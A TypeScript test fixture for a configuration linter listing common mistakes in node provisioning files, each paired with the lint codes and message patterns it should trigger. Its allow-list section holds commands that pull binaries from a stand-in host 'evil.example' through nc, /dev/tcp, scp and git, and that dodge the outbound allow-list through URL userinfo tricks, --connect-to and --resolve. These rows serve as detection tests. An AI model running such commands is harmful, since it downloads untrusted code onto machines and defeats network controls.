// Mistakes of users, each alone in a folder that is correct otherwise: what lint is expected to say about them, and about nothing else.
// Those of test/mistakes, and of the tests of a rule, are not repeated.

import {
  annotation,
  builtIn,
  builtIns,
  clusterInfo,
  config,
  type Edit,
  file,
  flatcarFile,
  more,
  network,
  pool,
  profile,
  run,
  script,
  setting,
  sshKey,
  token,
  unit,
} from './edits.ts'

export interface Mistake {
  readonly what: string
  /** The codes that are reported; none if nothing tells of it. */
  readonly codes: readonly string[]
  /** What the text has, or should have: the value, or what to do. */
  readonly says: RegExp
  readonly edits: readonly Edit[]
  readonly args?: readonly string[]
}

const SERVICE = '[Service]\nType=oneshot\nExecStart=/opt/bin/bootstrap\n'
const CRLF = (text: string) => text.replaceAll('\n', '\r\n')

const EXPIRED = `-----BEGIN CERTIFICATE-----
MIIBYjCCAQegAwIBAgIJAM45qnw7ooIhMAoGCCqGSM49BAMCMBQxEjAQBgNVBAMM
CWNvcnAtcm9vdDAeFw0xNTAxMDEwMDAwMDBaFw0yNTAxMDEwMDAwMDBaMBQxEjAQ
BgNVBAMMCWNvcnAtcm9vdDBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABGNn1OW1
d/Bmb6WXTfp/2iHUfhSeACy0mo6cyMWaAlpkH7vazCXVOhSND53U61GNsiMX0KMN
qkGxFPpnT8cWUtWjQjBAMA8GA1UdEwEB/wQFMAMBAf8wDgYDVR0PAQH/BAQDAgEG
MB0GA1UdDgQWBBT/mcHgakmvNVxGRSWt4A7EaK2PYjAKBggqhkjOPQQDAgNJADBG
AiEAlnrqCSNqE0LAhfqU9WHQN4RRLKpG5IvR9yeGgcR48kgCIQCCYkxOi+iUr049
X5ANZuHFuyFcyQQDfoWJzf78hw5HXQ==
-----END CERTIFICATE-----
`
const OF_SERVER = `-----BEGIN CERTIFICATE-----
MIIBkTCCATegAwIBAgIJAOb0QagE0JxBMAoGCCqGSM49BAMCMBYxFDASBgNVBAMM
C2NvcnAtcm9vdC0yMCAXDTI1MDEwMTAwMDAwMFoYDzIwNTQwMTAxMDAwMDAwWjAd
MRswGQYDVQQDDBJwcm94eS5jb3JwLmV4YW1wbGUwWTATBgcqhkjOPQIBBggqhkjO
PQMBBwNCAASpu2aCYHSLbIphT8bGl+PHvL3T/rn9ULhQBLsddYA15QR080r5FW33
YPa230ktCFZtDhepnfy9JCYUuUA1Jveto2UwYzAMBgNVHRMBAf8EAjAAMBMGA1Ud
JQQMMAoGCCsGAQUFBwMBMB0GA1UdDgQWBBRZhx0o3YQIOTJK9muDNfQSSaJSkTAf
BgNVHSMEGDAWgBSI9uPx5hH+HuPQRwLnnYk56kRZCTAKBggqhkjOPQQDAgNIADBF
AiAn3gOn5QgPE/B1FC1LcxbakW+TjUVKwvsuxDjDyKC37QIhAK1zsLIkqF6qb8pN
FNSTmfcbCvXKxJGxe4TBbrNrj09u
-----END CERTIFICATE-----
`
const CA = `-----BEGIN CERTIFICATE-----
MIIBQDCB86ADAgECAhR3st+8ddfCCbwJpFSEXiiFRTNmRjAFBgMrZXAwFTETMBEG
A1UEAwwKY29tcGFueSBDQTAgFw0yNjExMjEwNTQ1NDlaGA8yMTI2MTAyODA1NDU0
OVowFTETMBEGA1UEAwwKY29tcGFueSBDQTAqMAUGAytlcAMhAGuR6EQcaVW25VQH
d7H1Ii9WQHbDoCryU5+9jyBKJY+zo1MwUTAdBgNVHQ4EFgQU5ipcml395zwTVU9t
OiwVREYVpxEwHwYDVR0jBBgwFoAU5ipcml395zwTVU9tOiwVREYVpxEwDwYDVR0T
AQH/BAUwAwEB/zAFBgMrZXADQQC16NuiYz6hLvFG+7t7fch52Do68r0ci3GeVvAS
+JIeXhoV3T14XKhKjdNoD+GAW5gOtmbTCT2TFHuZhOI+nP4G
-----END CERTIFICATE-----
`
const KEY = '-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA\n-----END PRIVATE KEY-----\n'

const registry = (data: string): Edit[] => [
  setting('credentials', 'registry: {namespace: kube-system, name: registry}'),
  more(
    'registry.yaml',
    `apiVersion: v1\nkind: Secret\nmetadata: {name: registry, namespace: kube-system, annotations: {config.kubernetes.io/local-config: "true"}}\ntype: kubernetes.io/dockerconfigjson\nstringData: {.dockerconfigjson: ${JSON.stringify(data)}}\n`,
  ),
]

const allowing = (...commands: readonly string[]): Edit[] => [
  setting('checks', 'outbound: {allow: ["https://mirror.example.com/", "mirror.example.com"]}'),
  script(...commands),
]

const POLICY = `apiVersion: osm-krm.dev/v1alpha1
kind: OperatingSystemConfigGenerator
metadata: {name: review}
spec:
  checks: {lint: warn, severity: {OSM0309: "off", OSM0354: "off"}}
`

const SOPS = 'sops:\n  mac: ENC[AES256_GCM,data:abcd,iv:abcd,tag:abcd,type:str]\n  version: 3.9.0\n'
const ENCRYPTED = 'ENC[AES256_GCM,data:q83vASNFZ4k=,iv:q83vASNFZ4k=,tag:q83vASNFZ4k=,type:str]'

type Row = readonly [
  what: string,
  code: string | undefined,
  says: RegExp,
  edits: Edit | readonly Edit[],
  ...args: string[],
]

const ROWS: readonly Row[] = [
  // What vanishes
  [
    'a drop-in of containerd that ends in .conf',
    'OSM0667',
    /\.toml/,
    file('/etc/containerd/conf.d/registry.conf', 'version = 3\n'),
  ],
  [
    'a drop-in of the kubelet that ends in .yaml',
    'OSM0667',
    /\.conf/,
    file(
      '/etc/kubernetes/kubelet.conf.d/20-pods.yaml',
      'apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\nmaxPods: 60\n',
    ),
  ],
  ['modules in a file that ends in .txt', 'OSM0667', /\.conf/, file('/etc/modules-load.d/net.txt', 'br_netfilter\n')],
  [
    'hardening of sshd without an ending',
    'OSM0667',
    /\.conf/,
    file('/etc/ssh/sshd_config.d/50-hardening', 'PermitRootLogin no\n'),
  ],
  [
    'limits of the journal that end in .cfg',
    'OSM0667',
    /\.conf/,
    file('/etc/systemd/journald.conf.d/size.cfg', '[Journal]\nSystemMaxUse=1G\n'),
  ],
  [
    'a hidden static pod',
    'OSM0667',
    /manifests/,
    file(
      '/etc/kubernetes/manifests/.proxy.yaml',
      'apiVersion: v1\nkind: Pod\nmetadata: {name: proxy}\nspec: {containers: [{name: a, image: registry.k8s.io/pause:3.10}]}\n',
    ),
  ],
  [
    'kernel parameters that end in .cnf',
    'OSM0667',
    /\.conf/,
    [file('/etc/sysctl.d/90-db.cnf', 'vm.swappiness = 1\n'), run('sysctl --system')],
  ],
  [
    'kernel parameters that nothing loads',
    undefined,
    /sysctl --system/,
    file('/etc/sysctl.d/90-db.conf', 'vm.swappiness = 1\n'),
  ],
  [
    'a timer without its service',
    'OSM0647',
    /backup\.service/,
    [
      file('/etc/systemd/system/backup.timer', '[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n'),
      run('systemctl enable --now backup.timer'),
    ],
  ],
  ['a unit without [Install]', 'OSM0603', /\[Install\]/, unit('agent.service', SERVICE)],

  // What the kubelet refuses
  [
    'UnlimitedSwap',
    'OSM0122',
    /LimitedSwap/,
    [builtIns, setting('nodes', 'kubelet: {config: {failSwapOn: false, memorySwap: {swapBehavior: UnlimitedSwap}}}')],
  ],
  [
    'a drop-in of the kubelet without its kind',
    'OSM0655',
    /kind: KubeletConfiguration/,
    file('/etc/kubernetes/kubelet.conf.d/20-pods.conf', 'maxPods: 60\n'),
  ],
  [
    'a misspelt flag',
    'OSM0646',
    /--max-pods/,
    file('/etc/systemd/system/kubelet.service', '[Service]\nExecStart=/opt/bin/kubelet --max-pod=60\n'),
  ],
  [
    'a role as a label of the node itself',
    'OSM0646',
    /spec\.template\.spec\.metadata\.labels/,
    file(
      '/etc/systemd/system/kubelet.service',
      '[Service]\nExecStart=/opt/bin/kubelet --node-labels=node-role.kubernetes.io/worker=\n',
    ),
  ],

  // Leftovers of init and of examples
  ['the words of OpenStack', 'OSM0254', /FLAVOR/, pool('flavor: m1.medium', 'flavor: FLAVOR', 'flatcar-workers')],
  ['a placeholder of a page', 'OSM0252', /placeholder/, sshKey('<your-public-key>')],
  [
    'a variable of the shell as a server',
    'OSM0110',
    /API_SERVER/,
    clusterInfo('https://api.example.com:6443', `https://\${API_SERVER}:6443`),
  ],

  // Line ends, and what editors and Windows leave
  [
    'a script with the line ends of Windows',
    'OSM0610',
    /LF line ends/,
    file('/opt/bin/setup', CRLF('#!/bin/bash\necho a\n'), { mode: 755 }),
  ],
  [
    'a unit with the line ends of Windows',
    'OSM0610',
    /LF line ends/,
    unit('agent.service', CRLF(`${SERVICE}[Install]\nWantedBy=multi-user.target\n`)),
  ],
  [
    'a conflict of Git in the settings',
    'OSM0007',
    /conflict/,
    config(
      '    dnsIPs: [10.96.0.10]\n',
      '<<<<<<< HEAD\n    dnsIPs: [10.96.0.10]\n=======\n    dnsIPs: [10.97.0.10]\n>>>>>>> dns\n',
    ),
  ],
  [
    'a conflict of Git in a script',
    'OSM0630',
    /conflict/,
    script('<<<<<<< HEAD', 'echo a', '=======', 'echo b', '>>>>>>> b'),
  ],
  [
    'typographic quotes in a version',
    'OSM0501',
    /is not a kubelet version/,
    pool('kubelet: 1.36.1', 'kubelet: “1.36.1”'),
  ],
  ['a no-break space in a command', undefined, /space/, script('systemctl\u00a0restart kubelet')],

  // Commands of another distribution, and other commands that cannot work
  [
    'apt-get on Flatcar',
    'OSM0644',
    /Flatcar/,
    flatcarFile('/opt/bin/setup', '#!/bin/bash\napt-get install -y nfs-common\n', 755),
  ],
  ['a package of Red Hat on Ubuntu', undefined, /nfs-common/, script('apt-get install -y nfs-utils')],
  ['apt-get without -y', undefined, /-y/, script('apt-get install jq')],
  [
    'writing below /usr on Flatcar',
    undefined,
    /\/opt\/bin/,
    flatcarFile('/opt/bin/setup', '#!/bin/bash\ncurl -fLo /usr/local/bin/jq https://example.com/jq\n', 755),
  ],
  ['a script that nothing writes', undefined, /\/opt\/bin\/init-node/, run('/opt/bin/init-node')],

  // SOPS, and a policy as settings
  [
    'settings that SOPS encrypted',
    'OSM0101 OSM0102',
    /sops/i,
    more(
      'osm-krm.yaml',
      `apiVersion: osm-krm.dev/v1alpha1\nkind: OperatingSystemConfigGenerator\nmetadata:\n  name: workers\nspec:\n  cluster:\n    dnsIPs:\n      - ${ENCRYPTED}\n${SOPS}`,
    ),
  ],
  ['an SSH key that SOPS encrypted', 'OSM0252', /sops --decrypt/, sshKey(ENCRYPTED)],
  [
    'a file of a profile that SOPS encrypted',
    'OSM0630',
    /encrypted/i,
    file('/etc/company/token', `${ENCRYPTED}\n`, { mode: 600 }),
  ],
  ['the policy as the functionConfig', 'OSM0205', /revision/, more('osm-krm.yaml', POLICY)],

  // Characters that end a line for Kubernetes only
  [
    'a carriage return in quotes of the functionConfig',
    'OSM0021',
    /carriage return[^\n]* in a quoted text[^\n]* a space/,
    config('  annotations:\n', '  annotations:\n    a: "b\rc"\n'),
  ],

  // Names of files and units
  ['a misspelt unit in a command', undefined, /containerd/, run('systemctl restart containred')],

  // Networks
  [
    'a gateway outside of the network',
    'OSM0243',
    /gateway/,
    network('{cidr: 192.168.1.10/24, gateway: 192.168.2.1, dns: {servers: [192.168.1.1]}}'),
  ],
  [
    'the address of the network',
    'OSM0243',
    /192\.168\.1\.0/,
    network('{cidr: 192.168.1.0/24, gateway: 192.168.1.1, dns: {servers: [192.168.1.1]}}'),
  ],
  [
    'DNS of IPv6 for a node of IPv4',
    'OSM0243',
    /IPv/,
    [network('{ipFamily: IPv4}'), config('dnsIPs: [10.96.0.10]', 'dnsIPs: ["fd00::10"]')],
  ],
  [
    'an API server of a private network without noProxy',
    'OSM0113',
    /10\.1\.2\.3/,
    [
      builtIns,
      clusterInfo('https://api.example.com:6443', 'https://10.1.2.3:6443'),
      setting('nodes', 'proxy: {http: "http://proxy.example.com:3128"}'),
    ],
  ],
  [
    'localhost as the API server',
    'OSM0110',
    /itself/,
    clusterInfo('https://api.example.com:6443', 'https://127.0.0.1:6443'),
  ],
  [
    'a mirror with a port that is too high',
    'OSM0110',
    /65535/,
    [
      builtIn(),
      setting('nodes', 'containerd: {registryMirrors: {docker.io: ["https://registry.example.com:50000000"]}}'),
    ],
  ],

  // Versions
  ['a version of EKS', 'OSM0245', /release/, pool('kubelet: 1.36.1', 'kubelet: 1.36.1-eks-1')],
  [
    'a release of containerd with two v',
    undefined,
    /v/,
    script(
      'VERSION=v2.1.0',
      'curl -fLO https://github.com/containerd/containerd/releases/download/v$VERSION/containerd-linux-amd64.tar.gz',
    ),
  ],

  // Typing errors
  [
    'a selector that does not match',
    'OSM0247',
    /pol/,
    pool('      pool: ubuntu-workers\n  template', '      pol: ubuntu-workers\n  template'),
  ],
  ['a misspelt field of templates', 'OSM0410', /ServerURL/, profile('{{ .ServerURL }}', '{{ .ServerUrl }}')],
  [
    'a limit of the autoscaler without the other',
    'OSM0253',
    /max/,
    annotation('cluster.k8s.io/cluster-api-autoscaler-node-group-min-size', '1'),
  ],

  // Policies and the allow-list
  [
    'a user before another host',
    'OSM0653',
    /evil\.example/,
    allowing('curl -fLO https://mirror.example.com@evil.example/a'),
  ],
  [
    'a backslash before another host',
    'OSM0653',
    /evil\.example/,
    allowing("curl -fLO 'https://mirror.example.com\\@evil.example/a'"),
  ],
  [
    '--connect-to',
    'OSM0654',
    /--connect-to/,
    allowing('curl -fLO --connect-to ::evil.example:443 https://mirror.example.com/a'),
  ],
  [
    '--resolve',
    'OSM0654',
    /--resolve/,
    allowing('curl -fLO --resolve mirror.example.com:443:192.0.2.1 https://mirror.example.com/a'),
  ],
  ['scp', 'OSM0654', /with scp/, allowing('scp ops@evil.example:/agent /opt/bin/agent')],
  ['a clone by SSH', 'OSM0654', /with git/, allowing('git clone git@evil.example:agent.git /opt/agent')],
  ['nc', 'OSM0654', /with nc/, allowing('nc evil.example 80 >/opt/bin/agent')],
  ['/dev/tcp', 'OSM0654', /dev\/tcp/, allowing('cat </dev/tcp/evil.example/80 >/opt/bin/agent')],
  [
    'a URL from a variable of the node',
    'OSM0654',
    /only the node knows/,
    allowing('curl -fLO "https://$(hostname).example/a"'),
  ],

  // Certificates, tokens and the clock
  [
    'an expired CA for nodes',
    'OSM0237',
    /2025-01-01/,
    [builtIns, setting('nodes', `hostCABundle: ${JSON.stringify(EXPIRED)}`)],
    '--ignore',
    'OSM0274',
    '--now',
    '2026-11-26',
  ],
  [
    'the certificate of a server as a CA',
    'OSM0110',
    /CA/,
    [builtIns, setting('nodes', `hostCABundle: ${JSON.stringify(OF_SERVER)}`)],
  ],
  [
    'a private key in a bundle',
    'OSM0110',
    /private key/,
    [builtIns, setting('nodes', `hostCABundle: ${JSON.stringify(CA + KEY)}`)],
  ],
  ['a secret that is too short', 'OSM0234', /16/, token('exampleexample00', 'example')],
  [
    'a misspelt usage',
    'OSM0234',
    /usage-bootstrap-authentication/,
    token('usage-bootstrap-authentication', 'usage-bootstrap-authentification'),
  ],
  [
    'a token of a MachineDeployment that does not exist',
    'OSM0220',
    /ubuntu-workers/,
    token('kube-system-ubuntu-workers', 'kube-system-ubuntu-worker'),
  ],
  [
    'registry credentials of Docker Desktop',
    'OSM0235',
    /elsewhere/,
    registry('{"auths": {"registry.example.com": {}}, "credsStore": "desktop"}'),
  ],
]

export const MISTAKES: readonly Mistake[] = ROWS.map(([what, code, says, edits, ...args]) => ({
  what,
  codes: code?.split(' ') ?? [],
  says,
  edits: typeof edits === 'function' ? [edits] : edits,
  args,
}))
